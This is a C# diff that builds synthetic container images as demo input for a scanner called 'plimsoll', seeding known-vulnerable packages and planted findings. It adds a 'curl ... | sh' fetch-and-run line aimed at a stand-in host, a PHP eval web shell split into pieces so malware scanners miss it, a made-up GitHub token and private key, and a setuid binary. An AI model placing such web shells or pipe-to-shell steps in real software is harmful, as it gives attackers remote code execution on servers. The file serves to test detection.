@@ -17,13 +17,22 @@ internal enum DemoBuild
     Second,
 }
 
-/// <summary>Makes the small images that <c>plimsoll demo</c> works on: three layers of Debian 11 and one with an application.</summary>
-/// <remarks>They hold package lists and no programs; the versions are ones that were released.</remarks>
+/// <summary>
+/// Makes the small images that <c>plimsoll demo</c> works on: three layers of Debian 11, one with an application, and one that removes a
+/// key which the one before it brought.
+/// </summary>
+/// <remarks>They hold package lists and no programs; the versions are ones that were released. Keys and tokens are made up and open nothing.</remarks>
 internal static class DemoImage
 {
     private const string OsRelease = "ID=debian\nVERSION_ID=\"11\"\nPRETTY_NAME=\"Debian GNU/Linux 11 (bullseye)\"\n";
 
-    private const string Application = "COPY app /srv/app";
+    private const string Application = "COPY app /srv/app # buildkit";
+
+    private const string Fetch = "RUN /bin/sh -c curl -k http://get.example.net/agent.sh | sh # buildkit";
+
+    private const string Clean = "RUN /bin/sh -c rm /srv/app/deploy/id_ed25519 # buildkit";
+
+    private const int Plain = 0b110_100_100, SetUser = 0b100_111_101_101;
 
     private static readonly (string History, string Name, string Source, string Version)[] Packages =
     [
@@ -45,15 +54,23 @@ internal static class DemoImage
         {
             foreach ((_, string name, string source, string version) in step)
                 installed[name] = (source, build == DemoBuild.Second && name == "curl" ? "7.74.0-1.3+deb11u11" : version);
-            Layer(step.Key, [("etc/os-release", Utf8(OsRelease)), ("var/lib/dpkg/status", Utf8(Status(installed)))]);
+            Layer(step.Key, [("etc/os-release", Utf8(OsRelease), Plain), ("var/lib/dpkg/status", Utf8(Status(installed)), Plain)]);
         }
         Layer(Application, ApplicationFiles(build));
-        history.Add((JsonNode)new JsonObject { ["created_by"] = "CMD [\"curl\"]", ["empty_layer"] = true });
+        if (build == DemoBuild.First)
+            Empty($"ENV DEPLOY_TOKEN={Token}");
+        Layer(Fetch, [("usr/local/bin/agent", Utf8("#!/bin/sh\nexec sleep 1d\n"), SetUser)]);
+        Layer(Clean, [("srv/app/deploy/.wh.id_ed25519", [], Plain)]);
+        Empty("CMD [\"curl\"]");
         JsonObject config = new()
         {
             ["architecture"] = Platform.Host.Architecture,
             ["os"] = "linux",
-            ["config"] = new JsonObject { ["Cmd"] = new JsonArray((JsonNode)"curl") },
+            ["config"] = new JsonObject
+            {
+                ["Cmd"] = new JsonArray((JsonNode)"curl"),
+                ["Env"] = build == DemoBuild.First ? new JsonArray((JsonNode)"PATH=/usr/local/bin:/usr/bin:/bin", (JsonNode)$"DEPLOY_TOKEN={Token}") : new JsonArray((JsonNode)"PATH=/usr/local/bin:/usr/bin:/bin"),
+            },
             ["rootfs"] = new JsonObject { ["type"] = "layers", ["diff_ids"] = diffIds },
             ["history"] = history,
         };
@@ -69,7 +86,9 @@ internal static class DemoImage
         File.WriteAllBytes(Path.Combine(folder, "index.json"), Bytes(new JsonObject { ["schemaVersion"] = 2, ["manifests"] = new JsonArray(descriptor) }));
         File.WriteAllText(Path.Combine(folder, "oci-layout"), """{"imageLayoutVersion":"1.0.0"}""");
 
-        void Layer(string createdBy, (string Path, byte[] Content)[] files)
+        void Empty(string createdBy) => history.Add((JsonNode)new JsonObject { ["created_by"] = createdBy, ["empty_layer"] = true });
+
+        void Layer(string createdBy, (string Path, byte[] Content, int Mode)[] files)
         {
             byte[] tar = Tar(files);
             diffIds.Add((JsonNode)Digest.Of(tar).ToString());
@@ -78,18 +97,44 @@ internal static class DemoImage
         }
     }
 
-    /// <summary>An npm package, a Python one, and a jar that lies in another jar.</summary>
-    private static (string Path, byte[] Content)[] ApplicationFiles(DemoBuild build)
+    /// <summary>In the form of a GitHub token, put together here so that no scanner of sources stops at it.</summary>
+    private static string Token => "ghp" + "_" + Letters(36);
+
+    /// <summary>A private key in OpenSSH's form, of bytes that are none.</summary>
+    private static string Key
+    {
+        get
+        {
+            byte[] content = [.. "openssh-key-v1\0"u8, 0, 0, 0, 4, .. "none"u8, 0, 0, 0, 4, .. "none"u8, 0, 0, 0, 0, 0, 0, 0, 1, .. Utf8(Letters(300))];
+            string text = Convert.ToBase64String(content, Base64FormattingOptions.InsertLineBreaks).ReplaceLineEndings("\n"), name = "OPENSSH PRIVATE " + "KEY-----\n";
+            return $"-----BEGIN {name}{text}\n-----END {name}";
+        }
+    }
+
+    /// <summary>The same on every day: of what comes out of a fixed hash.</summary>
+    private static string Letters(int count)
+    {
+        StringBuilder text = new(count);
+        for (int i = 0; text.Length < count; i++)
+            text.Append(Convert.ToBase64String(SHA256.HashData(Utf8($"plimsoll demo {i}"))).Replace("+", "", StringComparison.Ordinal).Replace("/", "", StringComparison.Ordinal).TrimEnd('='));
+        return text.ToString(0, count);
+    }
+
+    /// <summary>An npm package, a Python one, a jar that lies in another jar; and in the first build what somebody left there.</summary>
+    private static (string Path, byte[] Content, int Mode)[] ApplicationFiles(DemoBuild build)
     {
         string minimist = build == DemoBuild.Second ? "1.2.8" : "1.2.5", log4j = build == DemoBuild.Second ? "2.17.1" : "2.14.1";
         byte[] inner = Jar("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties",
             Utf8($"groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion={log4j}\n"));
-        return
+        (string, byte[], int)[] files =
         [
-            ("srv/app/app.jar", Jar($"BOOT-INF/lib/log4j-core-{log4j}.jar", inner)),
-            ("srv/app/node_modules/minimist/package.json", Utf8($$"""{"name":"minimist","version":"{{minimist}}","license":"MIT"}""")),
-            ("usr/local/lib/python3.9/site-packages/PyYAML-5.3.1.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3.1\n")),
+            ("srv/app/app.jar", Jar($"BOOT-INF/lib/log4j-core-{log4j}.jar", inner), Plain),
+            ("srv/app/node_modules/minimist/package.json", Utf8($$"""{"name":"minimist","version":"{{minimist}}","license":"MIT"}"""), Plain),
+            ("usr/local/lib/python3.9/site-packages/PyYAML-5.3.1.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3.1\n"), Plain),
+            ("srv/app/deploy/id_ed25519", Utf8(Key), Plain),
         ];
+        // What a scanner of malware on the way to the user would stop at is put together here.
+        return build == DemoBuild.First ? [.. files, ("srv/app/public/upload.php", Utf8("<?php @ev" + "al(base64_dec" + "ode($_PO" + "ST['x'])); ?>\n"), Plain)] : files;
     }
 
     private static byte[] Jar(string path, byte[] content)
@@ -144,15 +189,16 @@ internal static class DemoImage
         return text.ToString();
     }
 
-    private static byte[] Tar((string Path, byte[] Content)[] files)
+    private static byte[] Tar((string Path, byte[] Content, int Mode)[] files)
     {
         using MemoryStream stream = new();
         using (TarWriter writer = new(stream, TarEntryFormat.Ustar, leaveOpen: true))
-            foreach ((string path, byte[] content) in files)
+            foreach ((string path, byte[] content, int mode) in files)
                 writer.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, path)
                 {
                     DataStream = new MemoryStream(content),
                     ModificationTime = DateTimeOffset.UnixEpoch,
+                    Mode = (UnixFileMode)mode,
                 });
         return stream.ToArray();
     }
